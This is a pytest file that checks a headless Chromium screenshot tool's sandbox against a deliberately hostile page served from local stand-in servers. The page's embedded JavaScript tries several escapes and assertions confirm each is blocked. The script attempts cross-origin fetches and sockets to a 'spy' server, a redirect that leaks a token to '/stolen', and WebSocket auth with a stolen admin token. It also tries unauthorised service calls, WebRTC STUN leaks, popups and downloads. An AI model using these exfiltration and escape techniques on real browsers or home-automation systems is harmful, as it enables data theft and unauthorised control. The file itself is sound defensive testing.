"""The screenshot browser can only look: a hostile page on a stand-in "HA origin" tries everything, nothing escapes.

Real servers on 127.0.0.1, real Debian Chromium: the stand-in origin (HTTP + a WebSocket at /api/websocket that
records every frame it receives), a spy HTTP server on another port and a UDP listener posing as a STUN server.
"""

from __future__ import annotations

import asyncio
import base64
import contextlib
import hashlib
import json
import logging
import socket
import struct
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from farmhost_testing import wait_for_async

from farmhost.farm.dashboards.screenshots import CHROMIUM_PATH, capture, parse_params
from farmhost.farm.dashboards.screenshots.browser import LAUNCH_ARGS
from farmhost.farm.dashboards.screenshots.confine import WEBRTC_FLAGS
from farmhost.farm.dashboards.screenshots.ws_filter import filter_from_page

TOKEN = "standin-screenshot-token"
WS_GUID = "258EAFA5-E914-47DA-95CA-C5AB0DC85B11"

ATTACKS = """
const spy = 'http://127.0.0.1:%(spy)d';
const report = (k, v) => fetch('/report?' + k + '=' + encodeURIComponent(v)).catch(() => {});
const settle = (p, ms) => Promise.race([p, new Promise(r => setTimeout(() => r('timeout'), ms))]);
const attacks = [
  fetch('/api/services/switch/turn_on', {method: 'POST', body: '{}'}).then(() => 'sent', () => 'failed')
    .then(v => report('post', v)),
  fetch(spy + '/fetched').then(() => 'sent', () => 'failed').then(v => report('cross', v)),
  fetch('/redirect').then(r => 'followed ' + r.status, () => 'failed').then(v => report('redirect', v)),
  settle(new Promise(resolve => {
    const ws = new WebSocket('ws://' + location.host + '/api/websocket');
    ws.onopen = () => {
      ws.send(JSON.stringify({type: 'auth', access_token: 'a-stolen-admin-token'}));
      ws.send(JSON.stringify({id: 5, type: 'call_service', domain: 'switch', service: 'turn_on'}));
      ws.send(JSON.stringify([{id: 6, type: 'get_states'}, {id: 7, type: 'execute_script', sequence: []}]));
    };
    const answers = [];
    ws.onmessage = m => { answers.push(JSON.parse(m.data)); if (answers.length === 2) resolve(answers); };
  }), 3000).then(v => report('ws', JSON.stringify(v))),
  settle(new Promise(resolve => {
    const ws = new WebSocket('ws://127.0.0.1:%(spy)d/socket');
    ws.onopen = () => resolve('open'); ws.onclose = () => resolve('closed');
  }), 2000).then(v => report('crossws', v)),
  navigator.serviceWorker.register('/sw.js').then(r => r ? 'registered' : 'refused', e => 'refused').then(v => report('sw', v)),
  settle((async () => {
    const frame = document.createElement('iframe');
    document.body.appendChild(frame);
    const PC = window.RTCPeerConnection || frame.contentWindow.RTCPeerConnection;
    if (!PC) return 'no RTCPeerConnection';
    const pc = new PC({iceServers: [{urls: 'stun:127.0.0.1:%(udp)d'}]});
    pc.createDataChannel('x');
    await pc.setLocalDescription(await pc.createOffer());
    await new Promise(r => { pc.onicegatheringstatechange = () => pc.iceGatheringState === 'complete' && r(); });
    return 'gathered';
  })().catch(e => 'failed ' + e), 3000).then(v => report('webrtc', v)),
];
for (const src of [spy + '/frame', '/redirect?frame']) {
  const f = document.createElement('iframe'); f.src = src; document.body.appendChild(f);
}
const img = document.createElement('img'); img.src = '/redirect?img'; document.body.appendChild(img);
window.open(spy + '/popup');
const a = document.createElement('a'); a.href = '/file.bin'; a.download = 'x.bin'; document.body.appendChild(a); a.click();
Promise.allSettled(attacks).then(() => {
  document.body.insertAdjacentHTML('beforeend', '<ha-panel-lovelace><hui-card>done</hui-card></ha-panel-lovelace>');
});
"""


@dataclass
class Servers:
    """What each real server saw."""

    standin: str = ""
    spy_port: int = 0
    udp_port: int = 0
    requests: list[tuple[str, str]] = field(default_factory=list)  # (method, path) at the stand-in origin
    ws_frames: list[str] = field(default_factory=list)  # what reached the stand-in's WebSocket
    spy_hits: list[str] = field(default_factory=list)
    udp_packets: list[bytes] = field(default_factory=list)

    def reports(self) -> dict[str, str]:
        from urllib.parse import parse_qsl, urlsplit

        return {k: v for m, p in self.requests if p.startswith("/report?") for k, v in parse_qsl(urlsplit(p).query)}


def _messages(frame: str) -> list[Any]:
    """One WebSocket frame's messages: a single one, or HA's coalesced array."""
    data = json.loads(frame)
    return data if isinstance(data, list) else [data]


def _listen_udp(udp: socket.socket, packets: list[bytes], stop: threading.Event) -> None:
    while not stop.is_set():
        try:
            packets.append(udp.recvfrom(2048)[0])
        except TimeoutError:
            continue


def _ws_serve(handler: BaseHTTPRequestHandler, frames: list[str]) -> None:
    """A minimal RFC 6455 server side: handshake, then record each (masked) text frame; answer `auth_ok`-like."""
    key = handler.headers["Sec-WebSocket-Key"]
    accept = base64.b64encode(hashlib.sha1((key + WS_GUID).encode()).digest()).decode()
    handler.send_response(101)
    handler.send_header("Upgrade", "websocket")
    handler.send_header("Connection", "Upgrade")
    handler.send_header("Sec-WebSocket-Accept", accept)
    handler.end_headers()
    rfile, wfile = handler.rfile, handler.wfile
    while True:
        head = rfile.read(2)
        if len(head) < 2:
            return
        opcode, length = head[0] & 0x0F, head[1] & 0x7F
        if length == 126:
            length = struct.unpack(">H", rfile.read(2))[0]
        elif length == 127:
            length = struct.unpack(">Q", rfile.read(8))[0]
        mask = rfile.read(4)
        payload = bytes(b ^ mask[i % 4] for i, b in enumerate(rfile.read(length)))
        if opcode == 8:
            return
        text = payload.decode()
        frames.append(text)
        for message in _messages(text):
            if "id" in message:  # a result for each command HA would answer
                reply = json.dumps({"id": message["id"], "type": "result", "success": True, "result": []}).encode()
                wfile.write(bytes([0x81, len(reply)]) + reply)
                wfile.flush()


@pytest.fixture
def servers() -> Iterator[Servers]:
    seen = Servers()

    class Spy(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            seen.spy_hits.append(self.path)
            self.send_response(200)
            self.end_headers()

        do_POST = do_GET

        def log_message(self, *args: Any) -> None:
            pass

    class StandIn(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            seen.requests.append(("GET", self.path))
            if self.path == "/api/websocket":
                _ws_serve(self, seen.ws_frames)
                return
            if self.path.startswith("/redirect"):
                self.send_response(302)
                self.send_header("Location", f"http://127.0.0.1:{seen.spy_port}/stolen?token={TOKEN}")
                self.end_headers()
                return
            body = b""
            if self.path == "/farmhost-standin":
                script = ATTACKS % {"spy": seen.spy_port, "udp": seen.udp_port}
                body = f"<!doctype html><html><body><script>{script}</script></body></html>".encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def do_POST(self) -> None:
            seen.requests.append(("POST", self.path))
            self.send_response(200)
            self.end_headers()

        def log_message(self, *args: Any) -> None:
            pass

    spy = ThreadingHTTPServer(("127.0.0.1", 0), Spy)
    standin = ThreadingHTTPServer(("127.0.0.1", 0), StandIn)
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", 0))
    udp.settimeout(0.2)
    stop = threading.Event()

    seen.spy_port, seen.udp_port = spy.server_address[1], udp.getsockname()[1]
    seen.standin = f"http://127.0.0.1:{standin.server_address[1]}"
    threads = [threading.Thread(target=s.serve_forever, daemon=True) for s in (spy, standin)]
    threads.append(threading.Thread(target=_listen_udp, args=(udp, seen.udp_packets, stop), daemon=True))
    for t in threads:
        t.start()
    yield seen
    stop.set()
    for s in (spy, standin):
        s.shutdown()
        s.server_close()
    threads[-1].join()
    udp.close()


async def test_a_hostile_page_on_the_ha_origin_reaches_nothing_and_every_block_is_logged(
    servers: Servers, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.WARNING, logger="farmhost.farm.dashboards.screenshots.confine")
    result = await capture(
        chromium=CHROMIUM_PATH,
        base_url=servers.standin,
        token=TOKEN,
        workspace=tmp_path,
        name="standin.png",
        shot=parse_params({"dashboard": "standin", "width": 640, "height": 480}),
    )

    assert result["matched"] == 1, "the page ran all its attacks, then showed its card"
    reports = servers.reports()
    assert servers.spy_hits == [], "no request, frame, popup, redirect or socket reached the other origin"
    assert servers.udp_packets == [], "no STUN packet left the browser"
    assert ("POST", "/api/services/switch/turn_on") not in servers.requests
    assert not any(p.startswith(("/sw.js", "/stolen")) for _, p in servers.requests)
    assert (reports["post"], reports["cross"], reports["redirect"]) == ("failed", "failed", "failed")
    assert reports["crossws"] in ("closed", "timeout"), "the socket to the other origin never opened"
    assert reports["sw"] == "refused" and not reports["webrtc"].startswith("gathered"), reports
    sent = [m for frame in servers.ws_frames for m in _messages(frame)]
    assert sent == [{"type": "auth", "access_token": TOKEN}, {"id": 6, "type": "get_states"}], (
        "only the read command reached the server, and auth carried the screenshot token, not the stolen one"
    )
    answers = {a["id"]: a for a in json.loads(reports["ws"])}
    assert answers[5]["success"] is False and answers[5]["error"]["code"] == "unauthorized"

    logged = [r.getMessage() for r in caplog.records]
    spy_origin = f"http://127.0.0.1:{servers.spy_port}"
    for expected in (
        f"a POST request to {servers.standin}",
        f"a fetch request to {spy_origin}",
        f"a document request to {spy_origin}",  # the iframe
        f"a redirect (302) of a fetch request to {spy_origin}",
        f"a redirect (302) of a image request to {spy_origin}",
        f"a WebSocket to {spy_origin}",
        "the WebSocket command 'call_service'",
        "the WebSocket command 'execute_script'",
        "a popup",
        "a download",
    ):
        assert any(expected in line for line in logged), (expected, logged)
    assert not any(TOKEN in line or "/stolen" in line for line in logged), "origins only, never a path or token"


STUN_JS = """async (port) => {
  const pc = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:' + port}]});
  pc.createDataChannel('x');
  await pc.setLocalDescription(await pc.createOffer());
  await new Promise(r => { pc.onicegatheringstatechange = () => pc.iceGatheringState === 'complete' && r(); });
}"""


async def test_the_launch_flags_alone_keep_webrtc_from_sending_udp(servers: Servers) -> None:
    """Even a frame where RTCPeerConnection survived gets no UDP out; without the flag the listener hears STUN."""
    from playwright.async_api import async_playwright

    async def packets_with(args: list[str], *, until_heard: bool = False) -> int:
        before = len(servers.udp_packets)
        async with async_playwright() as pw:
            browser = await pw.chromium.launch(executable_path=str(CHROMIUM_PATH), args=args)
            try:
                page = await browser.new_page()
                gathering = asyncio.ensure_future(page.evaluate(STUN_JS, servers.udp_port))
                if until_heard:  # the control run: its first STUN packet is the proof (gathering then waits ~40 s)
                    await wait_for_async(
                        lambda: len(servers.udp_packets) > before or None, timeout=30, what="the control run's STUN"
                    )
                    gathering.cancel()
                else:
                    await gathering  # gathering completes: every candidate was tried
            finally:
                await browser.close()
                with contextlib.suppress(BaseException):
                    await gathering
        return len(servers.udp_packets) - before

    assert await packets_with(list(LAUNCH_ARGS)) == 0
    control = [a for a in LAUNCH_ARGS if a not in WEBRTC_FLAGS]
    assert await packets_with(control, until_heard=True) > 0, "the control run is heard"


@pytest.mark.parametrize(
    ("frame", "forward", "answered"),
    [
        ('{"type": "auth", "access_token": "other"}', {"type": "auth", "access_token": TOKEN}, []),
        ('{"id": 3, "type": "subscribe_entities"}', {"id": 3, "type": "subscribe_entities"}, []),
        ('{"id": 4, "type": "call_service", "domain": "switch"}', None, [4]),
        (
            '[{"id": 5, "type": "get_states"}, {"id": 6, "type": "lovelace/config/save"}]',
            [{"id": 5, "type": "get_states"}],
            [6],
        ),
        ('[{"id": 7, "type": "auth/long_lived_access_token"}]', None, [7]),
        ('{"type": "fire_event"}', None, []),
        ("not json", None, []),
    ],
)
def test_the_socket_filter_passes_reads_and_answers_the_rest(frame: str, forward: Any, answered: list[int]) -> None:
    out = filter_from_page(frame, token=TOKEN)
    assert (json.loads(out.forward) if out.forward else None) == forward
    assert [json.loads(a)["id"] for a in out.answers] == answered
    assert all(json.loads(a)["error"]["code"] == "unauthorized" for a in out.answers)
